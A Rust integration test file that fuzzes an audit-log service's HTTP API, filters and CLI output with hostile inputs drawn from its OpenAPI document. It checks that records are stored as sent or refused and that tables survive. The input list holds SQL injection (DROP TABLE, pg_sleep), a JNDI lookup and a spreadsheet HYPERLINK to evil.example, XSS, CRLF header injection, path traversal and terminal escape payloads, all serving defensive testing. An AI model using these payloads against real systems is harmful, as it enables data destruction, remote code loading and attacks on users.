//! SQL, HTML and what terminals obey in everything that can be said: it is kept as it was said, or refused.
//!
//! What there is to say is taken from the document of the API, so that whatever is added is attacked as well.

use std::collections::{BTreeMap, BTreeSet};

use reqwest::{Client, Method, Response};
use rusqlite::Connection;
use serde_json::{Value, json};

use super::target::{LITTLE, Target};
use crate::{
    producer::post,
    retention::Audit,
    support::{postgres::Server, record},
};

/// What is tried as every text.
fn texts() -> Vec<String> {
    let short = [
        "'",
        "\"",
        "''",
        "'; DROP TABLE log_entry; --",
        "') OR 1=1 --",
        "\"; DELETE FROM workflow_execution_audit; /*",
        "\\",
        "\\'; SELECT pg_sleep(30); --",
        "%",
        "_",
        "%' ESCAPE '",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "$1",
        "?1",
        ":id",
        "\0",
        "a\0b",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</script><!--",
        "&lt;&#x27;",
        "javascript:alert(1)",
        "a\u{202e}cod.exe\u{2066}",
        "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m",
        "\r\nSet-Cookie: a=b\r\n\r\n",
        "\u{feff}\u{200b}\u{2028}",
        "\u{1f600}\u{1d4b3}\u{10ffff}",
        "e\u{301}\u{301}\u{301}",
        "=HYPERLINK(\"http://evil.example\")",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "../../../etc/hosts",
        "null",
        "NaN",
        "0",
        "-1",
        "9223372036854775808",
        " ",
    ];
    let mut texts: Vec<String> = short.map(str::to_owned).to_vec();
    texts.push("'%_\\".repeat(16 << 10));
    texts
}

/// What answers never are, and always say.
fn checked(answer: &Response, what: &str) {
    let header =
        |name: &str| answer.headers().get(name).map_or("", |value| value.to_str().unwrap()).to_owned();
    assert!(answer.status().as_u16() < 500 || answer.status() == 503, "{what}: {}", answer.status());
    assert!(!header("content-type").contains("html"), "{what}: {}", header("content-type"));
    assert_eq!(header("x-content-type-options"), "nosniff", "{what}");
    if answer.status().is_client_error() {
        assert_eq!(header("content-type"), "application/problem+json", "{what}");
    }
    assert!(answer.headers().get("set-cookie").is_none(), "{what}");
}

/// Every parameter of every call, each with one of so many texts.
async fn parameters(target: &Target, client: &Client, one_of: usize) {
    let (_, document) = target.dualaudit.get("/openapi.json").await;
    let said = |value: &Value| value.as_str().map_or_else(|| value.to_string(), str::to_owned);
    let mut tried = BTreeSet::new();
    for (path, methods) in document["paths"].as_object().unwrap() {
        // Pages have a policy of their own, which `http/docs.rs` holds.
        if path == "/docs" {
            continue;
        }
        for (method, call) in methods.as_object().unwrap() {
            let all: Vec<&Value> = call["parameters"].as_array().into_iter().flatten().collect();
            let needed = |it: &Value| it["required"] == true && it["in"] == "query";
            for attacked in &all {
                // The next takes the others.
                let some = texts().into_iter().filter(|text| text.len() < 1_000).skip(tried.len() % one_of);
                for text in &some.step_by(one_of).collect::<Vec<_>>() {
                    let value = |it: &Value| {
                        if it["name"] == attacked["name"] { text.clone() } else { said(&it["example"]) }
                    };
                    let mut url = reqwest::Url::parse(&target.dualaudit.url).unwrap();
                    let mut filled = path.clone();
                    for it in all.iter().filter(|it| it["in"] == "path") {
                        let encoded: String = value(it).bytes().map(|byte| format!("%{byte:02x}")).collect();
                        filled = filled.replace(&format!("{{{}}}", it["name"].as_str().unwrap()), &encoded);
                    }
                    url.set_path(&filled);
                    for it in all
                        .iter()
                        .filter(|it| it["in"] == "query" && (needed(it) || it["name"] == attacked["name"]))
                    {
                        url.query_pairs_mut().append_pair(it["name"].as_str().unwrap(), &value(it));
                    }
                    // An export waits for a checkpoint, and one by HEAD does not.
                    let method = if path == "/api/v1/export" { "HEAD" } else { method };
                    let mut request = client.request(method.to_uppercase().parse::<Method>().unwrap(), url);
                    if attacked["in"] == "header" {
                        let Ok(value) = reqwest::header::HeaderValue::from_bytes(text.as_bytes()) else {
                            continue;
                        };
                        request = request.header(attacked["name"].as_str().unwrap(), value);
                    }
                    if let Some(content) = call["requestBody"]["content"]["application/json"].as_object() {
                        request = request.json(&content["example"]);
                    }
                    let what = format!("{method} {path} {} {text:?}", attacked["name"]);
                    // Not read to its end: a stream has none.
                    let answer = request.send().await.unwrap_or_else(|error| panic!("{what}: {error}"));
                    checked(&answer, &what);
                    tried.insert(format!("{method} {path} {}", attacked["name"]));
                }
            }
        }
    }
    assert!(tried.len() > 200, "{} parameters", tried.len());
    target.still_serves("every parameter").await;
}

/// The places of texts in a schema, as paths of names; `[]` stands for the element of a list.
fn places(document: &Value, schema: &Value, at: &[String], places: &mut Vec<Vec<String>>) {
    let schema = match schema["$ref"].as_str() {
        Some(reference) => document.pointer(reference.strip_prefix('#').unwrap()).unwrap(),
        None => schema,
    };
    let type_ = &schema["type"];
    let is_a =
        |name: &str| type_ == name || type_.as_array().is_some_and(|types| types.contains(&json!(name)));
    if is_a("string") {
        places.push(at.to_vec());
    }
    for (name, property) in schema["properties"].as_object().into_iter().flatten() {
        self::places(document, property, &[at, std::slice::from_ref(name)].concat(), places);
    }
    if schema["additionalProperties"].is_object() {
        places.push([at, &["{}".to_owned()]].concat());
        self::places(document, &schema["additionalProperties"], &[at, &["key".to_owned()]].concat(), places);
    }
    if schema["items"].is_object() {
        self::places(document, &schema["items"], &[at, &["[]".to_owned()]].concat(), places);
    }
    for part in schema["oneOf"].as_array().into_iter().chain(schema["anyOf"].as_array()).flatten() {
        self::places(document, part, at, places);
    }
}

/// Puts a text into its place, making what it takes to get there.
fn put(value: &mut Value, place: &[String], text: &str) {
    let Some((first, rest)) = place.split_first() else {
        *value = json!(text);
        return;
    };
    match first.as_str() {
        "{}" => *value = json!({text: "x"}),
        "[]" => {
            if !value.is_array() || value[0].is_null() {
                *value = json!([null]);
            }
            put(&mut value[0], rest, text);
        }
        name => {
            if !value.is_object() {
                *value = json!({});
            }
            put(&mut value[name], rest, text);
        }
    }
}

fn found<'v>(value: &'v Value, place: &[String]) -> &'v Value {
    place.iter().fold(value, |value, name| match name.as_str() {
        "[]" => &value[0],
        "{}" => value,
        name => &value[name],
    })
}

/// Every text of every body, of records each with one of so many texts: what is taken is what is given back.
async fn bodies(target: &Target, client: &Client, one_of: usize) -> usize {
    let (_, document) = target.dualaudit.get("/openapi.json").await;
    let mut full = record("");
    for (name, of) in [
        ("source", json!({"api_version": "v1", "kind": "Pod", "uid": "u"})),
        ("target", json!({"kind": "Pod", "name": "p"})),
    ] {
        full[name] = of;
    }
    full["adaptive_adjustments"] = json!([{"step_number": 1, "adjustment_type": "retry", "reason": "x", "timestamp": "2026-05-01T08:00:00Z"}]);
    let mut of_records = Vec::new();
    places(&document, &json!({"$ref": "#/components/schemas/Record"}), &[], &mut of_records);
    assert!(of_records.len() > 30, "{of_records:?}");
    let mut taken = 0;
    for (nth, place) in of_records.iter().enumerate() {
        for (number, text) in texts().iter().enumerate().skip(nth % one_of).step_by(one_of) {
            let mut sent = full.clone();
            sent["id"] = json!(format!("{}-{number}", place.join(".")));
            put(&mut sent, place, text);
            let request = client.post(format!("{}/api/v1/executions", target.dualaudit.url));
            let answer = request.json(&sent).send().await.unwrap();
            let what = format!("{place:?} {:.60?}", text);
            checked(&answer, &what);
            let (status, answer): (u16, Value) = (answer.status().as_u16(), answer.json().await.unwrap());
            if status != 201 {
                // An id or a score that is there already, or a rule that it breaks.
                assert!([200, 400, 409, 422].contains(&status), "{what}: {status} {answer}");
                continue;
            }
            taken += 1;
            let mut url = reqwest::Url::parse(&target.dualaudit.url).unwrap();
            url.path_segments_mut().unwrap().extend([
                "api",
                "v1",
                "executions",
                sent["id"].as_str().unwrap(),
            ]);
            let shown = client.get(url).send().await.unwrap();
            checked(&shown, &what);
            let shown: Value = shown.json().await.unwrap();
            // Times and what is empty are given back in their one form.
            let is_time = text.parse::<jiff::Timestamp>().is_ok();
            let (there, expected) = (found(&shown["record"], place), found(&sent, place));
            assert!(is_time || there == expected, "{what}: {there:.200} {expected:.200}");
        }
    }
    // What is said of executions.
    for (path, schema, example) in [
        ("/api/v1/executions/said/reviews", "Review", json!({"verdict": "harmful"})),
        ("/api/v1/executions/said/window", "Window", json!({"window": "48h", "reason": "x"})),
        ("/api/v1/holds", "NewHold", json!({"execution_id": "said", "reason": "x"})),
        ("/api/v1/holds/http/0/release", "Release", json!({"reason": "x"})),
    ] {
        let mut all = Vec::new();
        places(&document, &json!({"$ref": format!("#/components/schemas/{schema}")}), &[], &mut all);
        assert!(all.len() >= 2, "{schema}: {all:?}");
        for place in &all {
            for text in texts() {
                let mut sent = example.clone();
                put(&mut sent, place, &text);
                let answer =
                    client.post(format!("{}{path}", target.dualaudit.url)).json(&sent).send().await.unwrap();
                checked(&answer, &format!("{path} {place:?} {text:.60?}"));
            }
        }
    }
    target.still_serves("every text").await;
    taken
}

/// What a filter names is that and nothing else: `%` and `_` stand for themselves.
async fn filters(target: &Target, client: &Client) {
    for (name, field) in [
        ("workflow", "workflow_name"),
        ("version", "workflow_version"),
        ("remediation_id", "remediation_id"),
        ("namespace", "namespace"),
        ("cluster", "cluster"),
        ("name", "name"),
        ("incident_type", "incident_type"),
        ("target", ""),
        ("target_kind", ""),
    ] {
        for text in texts().iter().filter(|text| text.len() < 250 && !text.contains('\0')) {
            let request =
                client.get(format!("{}/api/v1/executions?tier=stored&limit=1000", target.dualaudit.url));
            let answer = request.query(&[(name, text)]).send().await.unwrap();
            checked(&answer, name);
            let page: Value = answer.json().await.unwrap();
            for item in page["items"].as_array().into_iter().flatten() {
                let there = match name {
                    "target" => &item["target"]["name"],
                    "target_kind" => &item["target"]["kind"],
                    _ => &item[field],
                };
                assert!(there == text || text.contains('/'), "{name}={text:?}: {item}");
            }
        }
    }
}

/// What people read in a terminal, and open in a spreadsheet.
fn shown(target: &Target) {
    let commands = |text: &str| {
        text.chars().find(|c| {
            (c.is_control() && *c != '\n')
                || ('\u{202a}'..='\u{202e}').contains(c)
                || ('\u{2066}'..='\u{2069}').contains(c)
        })
    };
    for arguments in [
        &["list", "--limit", "1000"][..],
        &["list", "--limit", "1000", "-o", "wide"],
        &["list", "--limit", "1000", "-o", "json"],
        &["list", "--limit", "1000", "-o", "yaml"],
        &["get", "said"],
        &["get", "said", "-o", "json"],
        &["get", "said", "-o", "yaml"],
        &["hold", "list"],
        &["hold", "list", "-o", "json"],
    ] {
        let said = target.audit.done(arguments);
        assert_eq!(commands(&said), None, "{arguments:?}");
    }
    for arguments in
        [&["export", "--format", "csv", "--to", "-"][..], &["list", "--limit", "1000", "-o", "csv"]]
    {
        let output = crate::support::ended(target.audit.command(arguments));
        assert!(output.status.success(), "{output:?}");
        let mut rows = csv::Reader::from_reader(&output.stdout[..]);
        let names = rows.headers().unwrap().clone();
        let mut cells = 0;
        for row in rows.records() {
            for (name, cell) in names.iter().zip(&row.unwrap()) {
                let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                let is_number = cell.parse::<f64>().is_ok();
                assert!(!is_formula || is_number, "{arguments:?} {name}: {cell:.100}");
                cells += 1;
            }
        }
        assert!(cells > 1_000, "{arguments:?}: {cells}");
    }
}

async fn attacked(audit: Audit, one_of: usize, tables: impl Fn() -> BTreeMap<String, u64>) {
    let target = Target::new(audit, LITTLE).await;
    let before = tables();
    assert!(before.contains_key("log_entry"), "{before:?}");
    let client = Client::new();
    assert_eq!(post(&target.dualaudit, &record("said").to_string()).await.0, 201);
    let taken = bodies(&target, &client, one_of / 2).await;
    assert!(taken > 300, "{taken}");
    parameters(&target, &client, one_of).await;
    filters(&target, &client).await;
    shown(&target);
    let after = tables();
    assert_eq!(before.keys().collect::<Vec<_>>(), after.keys().collect::<Vec<_>>());
    assert!(after["log_entry"] > 300, "{after:?}");
    let log = target.dualaudit.log();
    assert!(!log.iter().any(|line| line.contains('\u{1b}')), "{log:#?}");
    target.is_unharmed();
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_is_said_is_kept_as_it_was_said_or_refused_in_sqlite() {
    let audit = Audit::in_a_file();
    let file = audit.dir.path().join("audit.db");
    let tables = || {
        let connection = Connection::open(&file).unwrap();
        let names = "SELECT name FROM sqlite_schema WHERE type = 'table'";
        let mut names = connection.prepare(names).unwrap();
        let names: Vec<String> = names.query_map([], |row| row.get(0)).unwrap().map(Result::unwrap).collect();
        let count = |name: &String| {
            connection.query_row(&format!("SELECT count(*) FROM \"{name}\""), [], |row| row.get(0)).unwrap()
        };
        names.iter().map(|name| (name.clone(), count(name))).collect()
    };
    attacked(audit, 2, tables).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_is_said_is_kept_as_it_was_said_or_refused_in_postgresql() {
    let database = Server::shared().database(None);
    let rows = |sql: &str| database.server.rows(&database.name, sql).unwrap();
    let tables = || {
        let names = rows(
            "SELECT relname FROM pg_class WHERE relkind IN ('r', 'p') AND relnamespace = 'public'::regnamespace",
        );
        let count =
            |name: &str| rows(&format!("SELECT count(*)::text FROM \"{name}\""))[0][0].parse().unwrap();
        names.iter().map(|name| (name[0].clone(), count(&name[0]))).collect()
    };
    attacked(Audit::at(database.url()), 4, tables).await;
}
